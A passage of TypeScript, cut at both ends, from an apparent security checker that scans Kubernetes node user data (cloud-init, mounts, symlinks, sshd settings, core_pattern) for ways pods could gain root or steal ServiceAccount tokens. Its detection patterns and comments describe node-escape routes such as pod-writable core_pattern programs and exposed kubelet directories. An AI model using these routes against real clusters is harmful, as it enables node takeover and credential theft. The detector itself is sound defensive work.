    REMOTE_AGENT_UNITS.test(unit.replace(/\.service$/, "").replace(/@[^@]*$/, ""));
/** The packaged units of REMOTE_AGENTS (a Teleport unit runs `teleport start` on its configuration, unread). */
const REMOTE_AGENT_UNITS =
    /^(puppet|chef-client|cinc-client|salt-minion|mcollective|teleport|pxp-agent|choria-server|rport|gitlab-runner|buildkite-agent|nomad|drone-runner-exec|drone-runner-docker|woodpecker-agent|act_runner|forgejo-runner|actions\.runner\..+|vsts\.agent\..+|go-agent|tfc-agent|circleci-runner|circleci|teamcity-agent|buildAgent|semaphore-agent|receptor|travis-worker|buildbot-worker(@.+)?|bamboo-agent|himds|extd|landscape-client|k3s-agent|rke2-agent)$/;

/** cloud-init modules that hand the node to a remote configuration server (cloud-init module reference). */
const REMOTE_MANAGEMENT = ["ansible", "puppet", "chef", "salt_minion", "landscape", "mcollective"];

/** Text a root process of the node runs (`file` undefined) or reads at `file`; `settings` is what the settings reader sees. */
interface RootText {
    text: string;
    file?: string;
    /** The text goes to the end of `file` (cloud-init write_files `append: true`), not over it. */
    append?: boolean;
    /** Set when a setting rather than a file holds the text: how the node reads it. */
    readBy?: string;
    settings: string;
}

/**
 * cloud-config keys whose paths name a disk layout, a mount or a user (cloud-init module reference: Disk Setup,
 * Growpart, Resizefs, Mounts' defaults, Users and Groups); write_files, runcmd, bootcmd and mounts are read apart.
 * Every other key naming a directory pods may write is refused (swap files, package repositories, output pipes...).
 */
const CLOUD_CONFIG_PATH_KEYS = new Set([
    "write_files",
    "runcmd",
    "bootcmd",
    "mounts",
    "fs_setup",
    "disk_setup",
    "device_aliases",
    "growpart",
    "resize_rootfs",
    "mount_default_fields",
    "users",
    "groups",
    "final_message",
]);

/**
 * A cloud-config's users as cloud-init reads them: `users` entries plus a top-level `user:` (merged into the default
 * user), each key with `-` rewritten to `_` (distros/ug_util.py normalize_users_groups, _normalize_users).
 */
function cloudConfigUsers(c: Record<string, any>): Record<string, any>[] {
    return [...list(c.users), ...(c.user && typeof c.user === "object" ? [c.user] : [])].map(u =>
        Object.fromEntries(Object.entries(obj(u)).map(([k, v]) => [k.replace(/-/g, "_"), v])),
    );
}

function cloudConfigOpenings(body: string): { openings: NodeOpening[]; texts: RootText[] } {
    const out: NodeOpening[] = [];
    const texts: RootText[] = [];
    for (const doc of yamlDocs(body, "a cloud-config part")) {
        const c = obj(doc);
        const users = cloudConfigUsers(c);
        const keyed = [c, ...users].some(
            u => list(u.ssh_authorized_keys ?? u["ssh-authorized-keys"]).length > 0 || list(u.ssh_import_id).length > 0,
        );
        if (keyed) out.push(SSH_KEY);
        // A home in a data directory: pods write its ~/.ssh/authorized_keys and profiles (sshd(8)), and a login there
        // runs on the node's network (the node role through instance metadata), as root with sudo.
        for (const u of users) {
            const home = typeof u.homedir === "string" ? posix.resolve("/", u.homedir) : undefined;
            if (home && podWritableRoot(home))
                out.push({
                    who: `every pod that may write ${podWritableRoot(home)}`,
                    what: `user data gives user ${String(u.name ?? "(unnamed)")} the home ${home} (cloud-config users homedir), under a node directory the pack lets pods write: pods write its ~/.ssh/authorized_keys and shell profiles, and a login there runs on the node's network (the node role through instance metadata), as root with sudo; give users homes outside the data directories`,
                });
        }
        const passwords =
            c.password !== undefined ||
            c.chpasswd !== undefined ||
            users.some(
                u => u.passwd !== undefined || u.plain_text_passwd !== undefined || u.hashed_passwd !== undefined,
            );
        if (isOn(c.ssh_pwauth) || passwords) out.push(passwordOpening("cloud-init ssh_pwauth, chpasswd, passwd"));
        for (const f of list(c.write_files).map(obj)) {
            // The kernel resolves `.`, `..` and `//` in the path cloud-init opens.
            const path = posix.resolve("/", String(f.path ?? ""));
            const content = writtenContent(f);
            if (f.source !== undefined)
                out.push({
                    who: "whoever serves the file's source",
                    what: `user data writes ${path} from a source fetched at boot (cloud-init write_files source), which the pack cannot read`,
                });
            // What the file is to the node (sshd, the kubelet, credentials ...) is judged with every other write
            // (nodeJudge.written), when rootReads reads the texts below.
            // cloud-init reads its own configuration directory at every boot (cloud-init docs, "Configuration
            // sources"): a file there is cloud-config. Files that run at boot (per-boot/per-instance/per-once scripts,
            // systemd units, cron) and every other file are read with the script reader.
            if (/^\/etc\/cloud\/cloud\.cfg(\.d\/|$)/.test(path)) {
                const nested = cloudConfigOpenings(content);
                out.push(...nested.openings);
                texts.push(...nested.texts);
            }
            // logrotate reads paths of logs and runs only its script blocks (logrotate(8): prerotate, postrotate,
            // firstaction, lastaction ... endscript), as root.
            // `append: true` adds the content to the file's end (cloud-init module reference, "Write Files": append).
            texts.push({
                text: content,
                file: path,
                append: isOn(f.append),
                settings: /^\/etc\/logrotate\.(conf$|d\/)/.test(path) ? logrotateScripts(content) : content,
            });
        }
        // fs_setup's `cmd` is run through a shell as root to make the filesystem (cloud-init module reference, "Disk
        // Setup": "Optional command to run to create the filesystem"; cc_disk_setup runs it with shell=True).
        for (const fs of list(c.fs_setup).map(obj))
            if (fs.cmd !== undefined) {
                const cmd = Array.isArray(fs.cmd) ? fs.cmd.map(String).join(" ") : String(fs.cmd);
                texts.push({ text: cmd, settings: cmd });
            }
        // A list entry is run without a shell (cloud-init module reference, "Runcmd"): its words are quoted as given.
        const shellLine = (x: unknown) =>
            Array.isArray(x) ? x.map(w => `'${String(w).replace(/'/g, `'\\''`)}'`).join(" ") : String(x);
        // Other modules run commands through a shell as root (cloud-init module reference): power_state's `condition`
        // (cc_power_state_change: a string runs with shell=True, a list without), snap's `commands`, random_seed's
        // `command`, wireguard's `readinessprobe`.
        const commands = [
            obj(c.power_state).condition,
            ...(Array.isArray(obj(c.snap).commands) ? obj(c.snap).commands : Object.values(obj(obj(c.snap).commands))),
            obj(c.random_seed).command,
            ...list(obj(c.wireguard).readinessprobe),
        ].filter(x => x !== undefined && x !== null && typeof x !== "boolean");
        for (const x of commands)
            texts.push({ text: shellLine(x), settings: Array.isArray(x) ? x.join(" ") : String(x) });
        // cloud-init `mounts`: [fs_spec, fs_file, fs_vfstype, fs_mntops, fs_freq, fs_passno] (module reference, "Mounts").
        for (const entry of list(c.mounts)) {
            const fields = list(entry).map(x => String(x ?? "").trim());
            out.push(...bindOpenings(fields[0] ?? "", fields[1] ?? "", "user data's cloud-config mounts entry"));
            texts.push({ text: fields.join(" "), file: "/etc/fstab", settings: "" });
        }
        for (const [key, value] of Object.entries(c).filter(([key]) => !CLOUD_CONFIG_PATH_KEYS.has(key)))
            for (const { at, value: v } of stringsIn(value, key))
                texts.push({ text: v, readBy: `in cloud-config key ${at}`, settings: "" });
        // cloud-init's package module installs `packages` entries (a name, or [name, version]; module reference,
        // "Package Update Upgrade Install"): judged as the same install by the distro's package manager.
        const packages = list(c.packages).map(p => String(Array.isArray(p) ? p[0] : p));
        if (packages.length > 0)
            out.push(...nodeJudge.ran(["dnf", "install", "-y", ...packages], "cloud-config packages"));
        const remote = REMOTE_MANAGEMENT.filter(m => c[m] !== undefined);
        if (remote.length > 0)
            out.push({
                who: `the ${remote.join(", ")} server`,
                what: `user data hands the node to ${remote.join(", ")} (cloud-init), whose server runs anything as root on it`,
            });
        // cloud-init writes a module's items into one shell script, in order (module reference, "Runcmd": "written to a
        // file and interpreted using sh"; cc_runcmd util.shellify), so a `cd` or a variable of one item holds in the next.
        for (const key of ["runcmd", "bootcmd"]) {
            const items = list(c[key]);
            if (items.length > 0)
                texts.push({
                    text: items.map(shellLine).join("\n"),
                    settings: items.map(x => (Array.isArray(x) ? x.join(" ") : String(x))).join("\n"),
                });
        }
    }
    return { openings: out, texts };
}

/**
 * A node directory mounted at another place (a bind: cloud-init `mounts`, an fstab line, a systemd .mount unit, a
 * `mount` command). The pod judge knows node secrets by their paths (podSpec.ts NODE_SECRETS): bound elsewhere, the
 * kubelet's directory (every pod's token) or the runtime's sockets appear where a hostPath may read them, or where pods
 * may write (/srv, /data); bound over them, a directory elsewhere becomes them. So a bind whose source or target holds
 * node secrets (at, inside or above one) is refused unless the other end lies inside them too. A source that is no
 * absolute directory (a device under /dev, LABEL=/UUID=, an NFS export host:/path, tmpfs, swap) brings nothing of the
 * node's directories: mounting a data volume, even at /var/lib/kubelet, stays accepted. cloud-init writes `mounts`
 * entries to /etc/fstab as written when fs_spec is no block device name (cloud-init module reference, "Mounts";
 * cc_mounts.py sanitize_mounts_configuration); systemd.mount(5): What=, Where=; mount(8): --bind, --rbind, --move.
 */
function bindOpenings(source: string, target: string, where: string, verb = "mounts"): NodeOpening[] {
    if (!source.startsWith("/") || /^\/dev(\/|$)/.test(posix.resolve(source)) || !target) return [];
    const exposed =
        (holdsNodeSecrets(source) && !insideNodeSecrets(target)) ||
        (holdsNodeSecrets(target) && !insideNodeSecrets(source));
    return exposed
        ? [
              {
                  who: "every pod that may mount the other end",
                  what: `${where} ${verb} ${source} at ${target}: a node directory holding every pod's token or the runtime's sockets (podSpec.ts NODE_SECRETS) appears at a path the pack lets pods mount, or under one, and a pod reading it acts as every ServiceAccount on the node; mount a block device there instead, or nodeadm's localStorage`,
              },
          ]
        : [];
}

/** mount(8) options that take a value as the next argument. */
const MOUNT_VALUE_OPTIONS = new Set([
    "-o",
    "--options",
    "-t",
    "--types",
    "-O",
    "--test-opts",
    "-L",
    "--label",
    "-U",
    "--uuid",
    "-N",
    "--namespace",
]);

/** Binds in free text: `mount` (or systemd-mount) commands, fstab lines with a bind option, systemd .mount units. */
function textBindOpenings(text: string): NodeOpening[] {
    const out: NodeOpening[] = [];
    for (const m of text.matchAll(/(?:^|[\s;&|(`'"])(?:\/usr)?(?:\/s?bin\/)?(?:systemd-)?mount[ \t]+([^\n;&|`)]*)/gm)) {
        const args = m[1]
            .split(/\s+/)
            .map(a => a.replace(/^["'[,]+|["',\]]+$/g, ""))
            .filter(Boolean);
        const positional: string[] = [];
        let [source, target] = ["", ""];
        for (let i = 0; i < args.length; i++) {
            const a = args[i];
            if (a === "--source" || a === "--target")
                [source, target] = a === "--source" ? [args[++i] ?? "", target] : [source, args[++i] ?? ""];
            else if (MOUNT_VALUE_OPTIONS.has(a)) i++;
            else if (!a.startsWith("-")) positional.push(a);
        }
        // A source that is no absolute path names a device, label, export or filesystem type (mount(8)), not a node
        // directory; `..` and `//` in a path are the kernel's to resolve.
        const paths = [source, target].filter(Boolean).length === 2 ? [source, target] : positional.slice(0, 2);
        const [from, to] = paths.map(p => (p.startsWith("/") ? posix.resolve(p) : p));
        if (paths.length === 2) out.push(...bindOpenings(from, to, `user data (${m[0].trim()})`));
    }
    for (const m of text.matchAll(/(?:^|[\s'"])(\/[^\s'"]*)[ \t]+(\/[^\s'"]*)[ \t]+[^\s'"]+[ \t]+([^\s'"]+)/gm))
        if (/(^|,)r?bind(,|$)/.test(m[3])) out.push(...bindOpenings(m[1], m[2], "user data's fstab line"));
    // systemd .mount units: What= and Where= of each [Mount] section.
    for (const section of text.split(/^\s*\[Mount\]\s*$/m).slice(1)) {
        const body = section.split(/^\s*\[/m)[0];
        const what = [...body.matchAll(/^\s*What\s*=\s*(\S+)/gm)].pop()?.[1];
        const whereTo = [...body.matchAll(/^\s*Where\s*=\s*(\S+)/gm)].pop()?.[1];
        if (what && whereTo) out.push(...bindOpenings(what, whereTo, "user data's systemd mount unit"));
    }
    return out;
}

/**
 * kernel.core_pattern beginning with `|` pipes every core dump of the node to a program the kernel runs as root, in the
 * initial namespaces, whichever container crashed (core(5), "Piping core dumps to a program": "the program is run as
 * the user and group root"; the program is "an absolute pathname (or a pathname relative to the root directory, /)").
 * A program (or a path argument of it) under a directory pods may write (podSpec.ts podWritableRoot) is theirs to
 * replace: root on the node. A pattern without `|` is a file name the kernel resolves in the crashing process's own
 * mount namespace, and `|/bin/false` runs a system binary: accepted. Read in any text (sysctl.d files, `sysctl -w`,
 * /proc/sys/kernel/core_pattern writes, Bottlerocket settings.kernel.sysctl, apiclient commands).
 */
function corePatternOpenings(text: string, where: string): NodeOpening[] {
    const out: NodeOpening[] = [];
    for (const line of text.split(/\r?\n/)) {
        // The kernel's other helpers run a path as root the same way: kernel.modprobe (request_module) and the
        // hotplug/uevent helper (kernel.hotplug, /sys/kernel/uevent_helper) (Linux admin-guide, sysctl/kernel.rst).
        if (/kernel[./](modprobe|hotplug)|uevent_helper/i.test(line))
            for (const word of line
                .split(/[\s"'`,;&|(){}[\]=]+/)
                .filter(w => w.startsWith("/") && !w.startsWith("/proc/") && !w.startsWith("/sys/"))) {
                const root = podWritableRoot(word);
                if (root)
                    out.push({
                        who: `every pod that may write ${root}`,
                        what: `${where} points a kernel helper at ${word} (${line.trim()}), under ${root}, a node directory the pack lets pods write: the kernel runs it as root on the node (sysctl kernel.modprobe, kernel.hotplug)`,
                    });
            }
        if (!/core_pattern/i.test(line)) continue;
        for (const piped of line.split("|").slice(1)) {
            const words = piped.split(/[\s"'`,;&(){}[\]=]+/).filter(Boolean);
            for (const [i, word] of words.entries()) {
                if (i > 0 && !word.startsWith("/")) continue;
                const root = word.startsWith("%") ? undefined : podWritableRoot(word);
                if (root)
                    out.push({
                        who: `every pod that may write ${root}`,
                        what: `${where} pipes core dumps to ${word} (${line.trim()}), under ${root}, a node directory the pack lets pods write: the kernel runs it as root on the node whenever any process dumps core (core(5), "Piping core dumps to a program")`,
                    });
            }
        }
    }
    return out;
}

/** Each line of text, and each word of its commands that holds blanks (a quoted line: `echo '...' >> /etc/crontab`). */
function withQuotedCommands(text: string): string[] {
    return text
        .split(/\r?\n/)
        .flatMap(line => [line, ...simpleCommands(line).flatMap(c => c.words.filter(w => /\s/.test(w)))]);
}

/** The shell commands of a logrotate configuration: the lines of its script blocks only. */
function logrotateScripts(config: string): string {
    const out: string[] = [];
    let inScript = false;
    for (const line of config.split(/\r?\n/)) {
        if (/^\s*endscript\b/.test(line)) inScript = false;
        else if (inScript) out.push(line);
        else if (/^\s*(pre|post)rotate\b|^\s*(first|last)action\b|^\s*preremove\b/.test(line)) inScript = true;
    }
    return out.join("\n");
}

/**
 * A link user data makes, as written (operands unresolved): `ln [-s] TARGET... LINK` (coreutils ln: a hard link
 * without -s; `-t DIR`, or a last operand that is a directory, puts each link inside it as DIR/basename(TARGET), -T
 * never; a single operand links it into the working directory; -r makes a symbolic TARGET relative, so TARGET is
 * read from the working directory), `cp -s`/`cp -l` (coreutils cp --symbolic-link, --link: "make symbolic links
 * instead of copying", "hard link files instead of copying", a tree of them with -r) and systemd-tmpfiles `L` lines
 * (tmpfiles.d(5): "L /link mode user group age target"). `into`: LINK is, or may be ("maybe"), a directory.
 */
interface WrittenLink {
    target: string;
    at: string;
    into: "no" | "maybe" | "yes";
    symbolic: boolean;
    fromCwd: boolean;
    where: string;
    /** A unit's own bind mount (BindPaths=): seen in its mount namespace only, not by pods' hostPath mounts. */
    unitOnly?: boolean;
}

function writtenLinks(raw: string): WrittenLink[] {
    const out: WrittenLink[] = [];
    for (const line of withQuotedCommands(joinContinuations(raw))) {
        for (const { words } of simpleCommands(line)) {
            const program = executedPrograms(words).find(p => /^(ln|cp)$/.test(posix.basename(p)));
            if (program === undefined) continue;
            const cp = posix.basename(program) === "cp";
            const operands: string[] = [];
            let dir: string | undefined;
            let [symbolic, hard, relative, noDir, ended] = [false, false, false, false, false];
            const i = words.lastIndexOf(program);
            for (let j = i + 1; j < words.length; j++) {
                const w = words[j];
                if (ended || !w.startsWith("-") || w === "-") operands.push(w);
                else if (w === "--") ended = true;
                else if (w.startsWith("--")) {
                    const [name, value] = w.includes("=")
                        ? [w.slice(0, w.indexOf("=")), w.slice(w.indexOf("=") + 1)]
                        : [w];
                    if (name === "--symbolic" || (cp && name === "--symbolic-link")) symbolic = true;
                    else if (cp && name === "--link") hard = true;
                    else if (!cp && name === "--relative") relative = true;
                    else if (name === "--no-target-directory") noDir = true;
                    else if (name === "--target-directory") dir = value ?? words[++j];
                    else if (name === "--suffix" && value === undefined) j++;
                } else
                    for (let k = 1; k < w.length; k++) {
                        const c = w[k];
                        if (c === "s") symbolic = true;
                        else if (c === "l" && cp) hard = true;
                        else if (c === "r" && !cp) relative = true;
                        else if (c === "T") noDir = true;
                        else if (c === "t" || c === "S") {
                            const value = w.slice(k + 1) || words[++j];
                            if (c === "t") dir = value;
                            break;
                        }
                    }
            }
            if (cp && !symbolic && !hard) continue;
            const where = `user data (${line.trim()})`;
            // A hard link's (or ln -r's) TARGET is found from the working directory; a symbolic one's from LINK's.
            const fromCwd = !symbolic || relative;
            const link = (target: string, at: string, into: WrittenLink["into"]) =>
                out.push({ target, at, into, symbolic, fromCwd, where });
            if (dir !== undefined) for (const t of operands) link(t, dir, "yes");
            else if (operands.length >= 2)
                for (const t of operands.slice(0, -1))
                    link(t, operands.at(-1)!, noDir ? "no" : operands.length > 2 ? "yes" : "maybe");
            else if (operands.length === 1 && !cp) link(operands[0], ".", "yes");
        }
        // systemd.exec(5) BindPaths=, BindReadOnlyPaths=: "Configures unit-specific bind mounts ... a single source path,
        // or a colon-separated pair of source and destination paths" (a "-" prefix ignores a missing source): in the
        // unit's namespace the destination IS the source, which connect(2) on a socket there reaches as a link's path.
        const bind = /^\s*Bind(?:ReadOnly)?Paths\s*=\s*(.*)$/.exec(line);
        for (const entry of bind?.[1].split(/\s+/).filter(e => e !== "") ?? []) {
            const [source = "", destination] = entry.replace(/^-/, "").split(":");
            out.push({
                target: source,
                at: destination || source,
                into: "no",
                symbolic: false,
                fromCwd: false,
                where: `user data's unit setting (${line.trim()})`,
                unitOnly: true,
            });
        }
        const tmpfiles = /^\s*L\+?!?\s+(\/\S+)\s+\S+\s+\S+\s+\S+\s+\S+\s+(\S+)/.exec(line);
        if (tmpfiles)
            out.push({
                target: tmpfiles[2],
                at: tmpfiles[1],
                into: "no",
                symbolic: true,
                fromCwd: false,
                where: `user data's tmpfiles.d line (${line.trim()})`,
            });
    }
    return out;
}

/**
 * Links between a node-secret path and elsewhere (writtenLinks), judged like binds (bindOpenings), at LINK (a
 * directory it goes into judged at the directory). The kubelet's --root-dir resolving through a link to /data/kubelet
 * keeps every pod's token there, where a pod mounting /data reads it.
 */
function symlinkOpenings(raw: string): NodeOpening[] {
    // A single operand's link lands in a working directory this reader does not follow (linkMarks fails closed on it).
    return writtenLinks(raw).flatMap(({ target, at, where, unitOnly }) => {
        if (at === "." || unitOnly) return [];
        const resolved = posix.resolve(posix.dirname(posix.resolve("/", at)), target);
        // bindOpenings judges both directions: a link at a node-secret path, or a link to one.
        return bindOpenings(resolved, posix.resolve("/", at), where, "links");
    });
}

/**
 * The links user data makes (writtenLinks) as paths the kernel follows, held for loopbackJoin (linkedPaths): a path the
 * pack cannot tell (a variable, a command substitution, a glob, or relative to a working directory it does not
 * follow) is undefined.
 */
function linkMarks(raw: string): NodeOpening[] {
    const known = (p: string) => p !== "" && !/[$`*?[\]{}~]/.test(p);
    return writtenLinks(raw).flatMap(({ target, at, into, symbolic, fromCwd, where }) => {
        const given = known(at) && at.startsWith("/") ? posix.normalize(at) : undefined;
        // LINK itself, or inside it as DIR/basename(TARGET).
        const inside = given === undefined || !known(target) ? undefined : posix.join(given, posix.basename(target));
        const ats = into === "no" ? [given] : into === "yes" ? [inside] : [given, inside];
        return ats.map(link => {
            // A symbolic link's relative target is read from the link's own directory.
            const to = !known(target)
                ? undefined
                : target.startsWith("/")
                  ? posix.normalize(target)
                  : symbolic && !fromCwd && link !== undefined
                    ? posix.resolve(posix.dirname(link), target)
                    : undefined;
            return heldForJoin({ link: { at: link, target: to, how: where } });
        });
    });
}

/** The AMI's own link: /var/run is a link to /run (systemd's tmpfiles.d/var.conf, "L /var/run - - - - ../run"). */
const AMI_LINKS: readonly NodeLink[] = [{ at: "/var/run", target: "/run", how: "the AMI" }];

/**
 * Every path `path` may name once the links (NodeLink) are followed, itself included: a link at it or at a directory
 * above it leads to its target (path_resolution(7): each component is looked up, symbolic links followed; connect(2)
 * on a unix socket's path resolves it so, unix(7) "Pathname sockets"), a link the pack cannot tell may lead anywhere
 * (undefined). A hard link is the same file at another path, read alike.
 */
function linkedPaths(path: string, links: readonly NodeLink[]): string[] | undefined {
    const seen = new Set([posix.normalize(path)]);
    const queue = [...seen];
    while (queue.length > 0) {
        const p = queue.shift()!;
        for (const { at, target } of links) {
            if (at === undefined) return undefined;
            if (p !== at && !p.startsWith(at === "/" ? "/" : `${at}/`)) continue;
            if (target === undefined) return undefined;
            const q = posix.normalize(`${target}/${p.slice(at.length)}`).replace(/(.)\/$/, "$1");
            if (seen.has(q)) continue;
            if (seen.size >= 64) return undefined;
            seen.add(q);
            queue.push(q);
        }
    }
    return [...seen];
}

/**
 * Whether text writes an SSH authorized key: output redirected into an authorized_keys file (`>`, `>>`, `&>`), a
 * command naming one that is not known to only remove or read it (tee, cp, install, mv, sed -i, dd ... all count), or
 * ssh-import-id. Removing the file (`rm -f ~/.ssh/authorized_keys`, EKS best practices "Minimize access to worker
 * nodes") or changing its mode installs no key.
 */
const KEY_NON_WRITERS = new Set([
    "rm",
    "unlink",
    "shred",
    "chmod",
    "chown",
    "chgrp",
    "chattr",
    "restorecon",
    "chcon",
    "ls",
    "stat",
    "test",
    "[",
    "[[",
    "wc",
    "file",
]);

function writesAuthorizedKey(text: string): boolean {
    return text.split(/\r?\n/).some(line =>
        simpleCommands(line).some(({ words, writes }) => {
            if (writes.some(w => /authorized_keys/.test(w))) return true;
            const programs = executedPrograms(words).map(p => posix.basename(p));
            if (programs.includes("ssh-import-id")) return true;
            const program = programs.at(-1) ?? "";
            return words.some(w => /authorized_keys/.test(w)) && !KEY_NON_WRITERS.has(program);
        }),
    );
}

/** sshd drop-ins (AL2023's sshd_config: `Include /etc/ssh/sshd_config.d/*.conf`, read before its own settings). */
const SSHD_DROP_IN = /^\/etc\/ssh\/sshd_config\.d\/[^/]+$/;
/**
 * sshd settings that let someone in (sshd_config(5)): passwords (PasswordAuthentication, KbdInteractiveAuthentication,
 * ChallengeResponseAuthentication, PermitEmptyPasswords), root logins with them (PermitRootLogin yes), host-based trust
 * (HostbasedAuthentication, IgnoreRhosts no), and where keys, principals or certificate authorities come from
 * (AuthorizedKeysFile, AuthorizedKeysCommand, AuthorizedPrincipals*, TrustedUserCAKeys). Read at a line's start in
 * any text; in an sshd_config.d drop-in an Include (files the pack cannot read) too. Hardening (PermitRootLogin no,
 * PasswordAuthentication no, MaxAuthTries, X11Forwarding no) opens nothing.
 */
function sshdOpenings(text: string, where: string, dropIn = false): NodeOpening[] {
    const out: NodeOpening[] = [];
    for (const line of text.split(/\r?\n/)) {
        const m = /^\s*([A-Za-z]+)(?:\s*=\s*|\s+)("?)(\S*)\2/.exec(line);
        if (!m) continue;
        const [keyword, value] = [m[1].toLowerCase(), m[3].toLowerCase()];
        // Passwords, host-based trust and files the pack cannot read let in others than the holders of keys; root
        // logins and where keys, principals or certificate authorities come from are key-based SSH, the way seed 003's
        // operators reach an instance, and open only nodes (whose SSH reaches every pod's token).
        const beyondKeys =
            ([
                "passwordauthentication",
                "kbdinteractiveauthentication",
                "challengeresponseauthentication",
                "permitemptypasswords",
                "hostbasedauthentication",
            ].includes(keyword) &&
                value === "yes") ||
            (keyword === "ignorerhosts" && value === "no") ||
            (dropIn && keyword === "include");
        const opens =
            beyondKeys ||
            (keyword === "permitrootlogin" && value === "yes") ||
            // `none` turns each of these off (sshd_config(5): AuthorizedKeysFile "may be set to none").
            (/^(authorizedkeysfile|authorizedkeyscommand(user)?|authorizedprincipals(file|command|commanduser)|trustedusercakeys)$/.test(
                keyword,
            ) &&
                value !== "none");
        if (opens)
            out.push({
                who: "whoever sshd then lets in",
                what: `${where} sets sshd's ${m[1]} ${m[3]} (${line.trim()}): passwords, root logins, other hosts' trust, or keys and certificate authorities from elsewhere log in to the node. ${ROOT_SSH}`,
                ...(beyondKeys
                    ? {
                          anyInstance: {
                              who: "whoever sshd then lets in",
                              what: `${where} sets sshd's ${m[1]} ${m[3]} (${line.trim()}): passwords, other hosts' trust or settings the pack cannot read log in beside the operators' SSH keys, on the instance's network (its instance profile's role through instance metadata)`,
                          },
                      }
                    : {}),
            });
    }
    return out;
}

/** Settings in free text (scripts, commands, unknown parts) that open the node, read best-effort. */
function scriptOpenings(raw: string, commands = true, structured = false): NodeOpening[] {
    const text = raw
        .split("\n")
        .filter(line => !/^\s*#/.test(line))
        .join("\n");
    const out: NodeOpening[] = [];
    const anonymous =
        /anonymous["']?\s*:\s*\{?\s*["']?enabled["']?\s*:\s*(true|yes|on)\b/i.test(text) ||
        /--anonymous-auth([= ]true|(?![=\w-]))/i.test(text);
    const alwaysAllow = /AlwaysAllow/.test(text);
    if (anonymous || alwaysAllow)
        out.push(
            kubeletOpen(
                "user data",
                [
                    anonymous ? "the kubelet's anonymous authentication" : "",
                    alwaysAllow ? "AlwaysAllow authorization" : "",
                ]
                    .filter(Boolean)
                    .join(" and "),
            ),
        );
    const admin =
        /host-containers\.admin\.enabled\s*=\s*["']?true/i.test(text) ||
        /"admin"\s*:\s*\{[^}]*"enabled"\s*:\s*true/i.test(text);
    const superpowered = !structured && /superpowered["']?\s*[=:]\s*["']?true/i.test(text);
    if (admin || superpowered)
        out.push({
            who: "whoever runs the host container",
            what: `user data turns on ${admin ? "Bottlerocket's admin host container (SSH into a root shell on the node)" : "a superpowered Bottlerocket host container (root on the node)"}`,
        });
    const readOnly =
        /--read[-_]only[-_]port(?:\s*=\s*|\s+)["']?([0-9]+)|["']?readOnlyPort["']?\s*[:=]\s*["']?([0-9]+)/.exec(text);
    if (readOnly && Number(readOnly[1] ?? readOnly[2]) !== 0) out.push(readOnlyPort("user data", readOnly[0]));
    if (/^\s*ssh[_-]authorized[_-]keys\s*:/m.test(text) || writesAuthorizedKey(text)) out.push(SSH_KEY);
    if (/--pod-manifest-path|--manifest-url|\/etc\/kubernetes\/manifests|staticPod(Path|URL)/i.test(text))
        out.push(staticPods("user data", "a static pod source"));
    out.push(...textBindOpenings(text), ...corePatternOpenings(text, "user data"));
    // A structured part's body (cloud-config YAML, Bottlerocket TOML) is not a shell script: its commands and files
    // are extracted and read as such (cloudConfigOpenings' texts), a logrotate block's paths are no programs.
    if (commands) out.push(...symlinkOpenings(text), ...linkMarks(text));
    out.push(...sshdOpenings(text, "user data"));
    // The kubelet's --root-dir (or --root_dir) anywhere (a drop-in's ExecStart, KUBELET_EXTRA_ARGS, a script), judged
    // as in a NodeConfig: moved from /var/lib/kubelet, or under a directory pods may write.
    for (const m of text.matchAll(/--root[-_]dir(?:\s*=\s*|\s+)["']?([^\s"';]+)/g)) {
        out.push(...kubeletFlagOpenings([`--root-dir=${m[1]}`], "user data"));
        out.push(...writablePathOpenings([{ at: "the kubelet flag --root-dir", value: m[1] }], "user data"));
    }
    return out;
}

/**
 * The environment variables a configuration reader asks ScriptView for (browserIdeListeners, jupyterListeners,
 * pythonEntry's PYTHONPATH).
 */
const VIEWED_VARIABLES =
    /(?:^|[\s;&|(`"'=])(PYTHONPATH|CODE_SERVER_CONFIG|XDG_CONFIG_HOME|JUPYTER_CONFIG_DIR|JUPYTER_CONFIG_PATH|ASPNETCORE_CONTENTROOT|DOTNET_CONTENTROOT|SPRING_[A-Z0-9_]+|SERVER_(?:ADDRESS|PORT)|[nN][pP][mM]_[cC][oO][nN][fF][iI][gG]_\w+|[yY][aA][rR][nN]_\w+|GOFLAGS|GOWORK|GOENV|CARGO_[A-Z0-9_]+|RUSTC\w*|RUSTFLAGS|RUSTDOCFLAGS)=("[^"\n]*"|'[^'\n]*'|[^\s;&|()"'`]*)/gm;
/**
 * Whether a command keeps the content of every file it names (CONTENT_KEEPERS). find(1) itself only lists the files it
 * finds, unless it deletes them (-delete) or writes the list into a file (-fprint, -fprint0, -fprintf, -fls); the
 * commands its -exec/-execdir/-ok/-okdir run are judged as themselves (findRuns). rpm's queries only read the package
 * database (rootReads.ts rpmQueryWord), the files they name included (-qf "Query package owning installed FILE").
 */
function keepsContent(words: readonly string[]): boolean {
    const program = posix.basename(words[0] ?? "");
    if (program === "find") return !words.some(w => /^-(delete|fprint0?|fprintf|fls)$/.test(w));
    if (program === "rpm")
        return (
            words.slice(1).some(w => /^(-q|--query$)/.test(w)) &&
            words.slice(1).every(w => rpmQueryWord(w) || !w.startsWith("-"))
        );
    return CONTENT_KEEPERS.test(program);
}

/** A command as viewingJudge judges it; `found` when it runs on what find found (`{}`: any file under a start path). */
interface JudgedRun {
    words: readonly string[];
    cwd: string | undefined;
    found: boolean;
}

/**
 * The commands a command line runs: itself, and for find(1) its own words without its actions' commands, then each
 * command of -exec/-execdir/-ok/-okdir ("-exec command ;", "-exec command {} +": GNU findutils manual, "Single File",
 * "Multiple Files") as if run alone with `{}` a start path (find's start paths, `.` when none; a command naming a start
 * path names every file under it), -execdir's and -okdir's from the directory holding the start path ("the
 * subdirectory containing the matched file", the topmost of them). -files0-from reads the start paths from a file
 * instead (GNU findutils manual, "Starting points"): any path, `/`.
 */
function findRuns(words: readonly string[], cwd: string | undefined): JudgedRun[] {
    if (posix.basename(words[0] ?? "") !== "find") return [{ words, cwd, found: false }];
    // find [-H] [-L] [-P] [-D debugopts] [-Olevel] [starting-point...] [expression]
    let i = 1;
    while (/^-([HLP]|D|O\d*)$/.test(words[i] ?? "")) i += words[i] === "-D" ? 2 : 1;
    const firstTest = words.findIndex((w, j) => j >= i && /^[-(!),]/.test(w));
    const starts = words.includes("-files0-from") ? ["/"] : words.slice(i, firstTest < 0 ? undefined : firstTest);
    const own: string[] = [];
    const runs: JudgedRun[] = [];
    for (let j = 0; j < words.length; j++) {
        own.push(words[j]);
        const action = /^-(exec|execdir|ok|okdir)$/.exec(words[j]);
        if (!action) continue;
        const end = words.findIndex((x, k) => k > j && (x === ";" || x === "+"));
        const command = words.slice(j + 1, end < 0 ? undefined : end);
        for (const start of starts.length > 0 ? starts : ["."]) {
            const inDirectory = action[1].endsWith("dir");
